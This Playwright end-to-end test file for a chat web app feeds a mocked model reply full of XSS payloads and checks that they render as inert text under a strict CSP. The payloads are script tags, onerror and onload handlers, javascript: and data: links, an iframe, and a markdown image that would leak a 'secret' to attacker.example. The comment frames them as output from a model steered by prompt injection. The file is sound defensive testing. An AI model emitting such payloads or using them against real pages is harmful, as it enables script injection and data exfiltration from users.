import { expect, test, type Page } from "@playwright/test";
import { AuthPage } from "./pages/auth-page";
import { ChatPage } from "./pages/chat-page";
import { MockLlm } from "./pages/mock-llm";

// Runs in the mock-openai project only (see playwright.config.ts): the mock replies with exactly
// the payloads below, as a model steered by a malicious document or prompt could.

const PAYLOADS = [
  "Here is what you asked for.",
  "",
  "<script>window.__xss=1</script>",
  "",
  'An image tag <img src=x onerror="window.__xss=2"> inline.',
  "",
  "A [click](javascript:window.__xss=3) link and a [data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9NDwvc2NyaXB0Pg==).",
  "",
  "![secret](https://attacker.example/?q=secret)",
  "",
  '<a href="javascript:alert(1)">x</a>',
  "",
  '<iframe src="https://attacker.example"></iframe>',
  "",
  '<svg onload="window.__xss=5"><circle r="5"/></svg>',
  "",
  "End of reply.",
].join("\n");

const MARKDOWN = [
  "Here is **bold** text and `inline code`.",
  "",
  "| Language | Typed | Notes |",
  "|---|:-:|---|",
  "| TypeScript | yes | structural types |",
  "| Python | optional | type hints, checked by mypy or pyright |",
  "",
  "```ts",
  "// Greets someone by name.",
  "export function greet(name: string): string {",
  "  return `Hello, ${name}!`;",
  "}",
  `const aVeryLongLineThatMustScrollInsideTheCodeBlock = ${JSON.stringify("x".repeat(220))};`,
  "```",
  "",
  "1. first step",
  "2. second step",
  "   - a nested point",
  "",
  "> A quoted remark.",
].join("\n");

/** Everything that would show an attack reached the browser: dialogs, attacker requests, CSP reports. */
async function watch(page: Page) {
  const seen = { dialogs: [] as string[], attackerRequests: [] as string[], cspViolations: [] as string[], pageErrors: [] as string[] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).hostname.endsWith("attacker.example")) seen.attackerRequests.push(request.url());
  });
  page.on("console", (message) => {
    if (/Content[- ]Security[- ]Policy/i.test(message.text())) seen.cspViolations.push(message.text());
  });
  page.on("pageerror", (error) => seen.pageErrors.push(error.message));
  await page.context().route(
    (url) => url.hostname.endsWith("attacker.example"),
    async (route) => {
      seen.attackerRequests.push(route.request().url());
      await route.abort();
    },
  );
  return seen;
}

test("a reply full of script, HTML and dangerous links renders as harmless text", async ({ page }) => {
  const seen = await watch(page);
  const mock = new MockLlm(page.request);
  await mock.set({ reply: PAYLOADS });
  try {
    await new AuthPage(page).signUp(`e2e-xss-${Date.now()}@example.test`, "a long enough password");
    const chat = new ChatPage(page);
    await chat.send("Show me the payloads");
    await chat.waitForReplyToFinish();
    await expect(chat.assistantMessages().first()).toContainText("End of reply.");

    const check = async () => {
      const reply = chat.assistantMessages().first().getByTestId("markdown");
      // Raw HTML is shown as the text it is.
      await expect(reply).toContainText("<script>window.__xss=1</script>");
      await expect(reply).toContainText('<img src=x onerror="window.__xss=2">');
      await expect(reply).toContainText('<a href="javascript:alert(1)">x</a>');
      await expect(reply).toContainText('<iframe src="https://attacker.example"></iframe>');
      await expect(reply.locator("script, img, iframe, svg, object, embed")).toHaveCount(0);
      // Links to anything but http(s)/mailto are their text, not links.
      await expect(reply).toContainText("A click link and a data link.");
      await expect(reply.getByRole("link", { name: "click" })).toHaveCount(0);
      await expect(reply.getByRole("link", { name: "data link" })).toHaveCount(0);
      await expect(page.locator('a[href^="javascript:" i], a[href^="data:" i]')).toHaveCount(0);
      // The image is a link the user may choose to open; nothing was fetched.
      const image = reply.getByRole("link", { name: /Image: secret/ });
      await expect(image).toHaveAttribute("href", "https://attacker.example/?q=secret");
      await expect(image).toHaveAttribute("rel", "noopener noreferrer");
      await expect(image).toHaveAttribute("target", "_blank");
      expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
    };
    await check();

    // The stored reply, rendered from the server's copy, is just as inert.
    const response = await page.reload();
    await expect(chat.assistantMessages().first()).toContainText("End of reply.");
    await check();

    // Pages carry a nonce-based CSP: an injected inline script could not run even if markup got through.
    const policy = response?.headers()["content-security-policy"] ?? "";
    const scriptSrc = policy.split(";").find((d) => d.trim().startsWith("script-src")) ?? "";
    expect(scriptSrc).toMatch(/'nonce-[A-Za-z0-9+/=]{16,}'/);
    expect(scriptSrc).toContain("'strict-dynamic'");
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(scriptSrc).not.toContain("'unsafe-eval'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");

    await page.waitForTimeout(500);
    expect(seen.dialogs).toEqual([]);
    expect(seen.attackerRequests).toEqual([]);
    expect(seen.cspViolations).toEqual([]);
    expect(seen.pageErrors).toEqual([]);
  } finally {
    await mock.reset();
  }
});

test("pages load under the CSP without violations; API responses carry none", async ({ page }) => {
  const seen = await watch(page);
  for (const path of ["/sign-in", "/sign-up"]) {
    const response = await page.goto(path);
    expect(response?.headers()["content-security-policy"]).toMatch(/script-src 'self' 'nonce-/);
    // Hydrated (the form is interactive): Next's scripts ran with the nonce.
    await expect(page.getByRole("button", { name: path === "/sign-in" ? "Sign in" : "Create account" })).toBeEnabled();
  }
  await new AuthPage(page).signUp(`e2e-csp-${Date.now()}@example.test`, "a long enough password");
  for (const path of ["/settings/api-keys", "/settings/usage", "/docs/api"]) {
    const response = await page.goto(path);
    expect(response?.headers()["content-security-policy"], path).toMatch(/'nonce-/);
  }
  await expect(page.getByRole("heading", { name: "BOT GPT API reference" })).toBeVisible();

  const api = await page.request.get("/api/health");
  expect(api.headers()["content-security-policy"]).toBeUndefined();
  expect(api.headers()["x-request-id"]).toBeTruthy();

  await page.waitForTimeout(500);
  expect(seen.cspViolations).toEqual([]);
  expect(seen.pageErrors).toEqual([]);
});

test("Markdown replies render tables, highlighted code with Copy code, lists and emphasis", async ({ page, context }, testInfo) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const mock = new MockLlm(page.request);
  await mock.set({ reply: MARKDOWN });
  try {
    await new AuthPage(page).signUp(`e2e-md-${Date.now()}@example.test`, "a long enough password");
    const chat = new ChatPage(page);
    await chat.send("Show me some Markdown");
    await chat.waitForReplyToFinish();
    const reply = chat.assistantMessages().first().getByTestId("markdown");
    await expect(reply).toContainText("A quoted remark.");

    await expect(reply.locator("strong")).toHaveText("bold");
    await expect(reply.locator("p code")).toHaveText("inline code");
    const table = reply.getByRole("table");
    await expect(table.getByRole("columnheader")).toHaveText(["Language", "Typed", "Notes"]);
    await expect(table.getByRole("row")).toHaveCount(3);
    await expect(table.getByRole("cell", { name: "optional" })).toHaveCSS("text-align", "center");
    await expect(reply.locator("ol > li")).toHaveCount(2);
    await expect(reply.locator("ol ul > li")).toHaveText("a nested point");
    await expect(reply.locator("blockquote")).toHaveText("A quoted remark.");

    const block = reply.getByTestId("code-block");
    await expect(block).toContainText("ts");
    await expect(block.locator("code.hljs.language-ts .hljs-keyword").first()).toHaveText("export");
    await expect(block.locator(".hljs-comment")).toHaveText("// Greets someone by name.");
    // A long line scrolls inside the block, never the page.
    const pre = block.locator("pre");
    expect(await pre.evaluate((el) => el.scrollWidth > el.clientWidth)).toBe(true);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);

    const copy = block.getByRole("button", { name: "Copy code" });
    await copy.click();
    await expect(copy).toHaveText("Copied");
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toContain("export function greet(name: string): string {\n  return `Hello, ${name}!`;\n}");
    await expect(copy).toHaveText("Copy code", { timeout: 5_000 });

    await page.screenshot({ path: testInfo.outputPath("markdown-light.png") });
    await page.emulateMedia({ colorScheme: "dark" });
    await page.screenshot({ path: testInfo.outputPath("markdown-dark.png") });
  } finally {
    await mock.reset();
  }
});
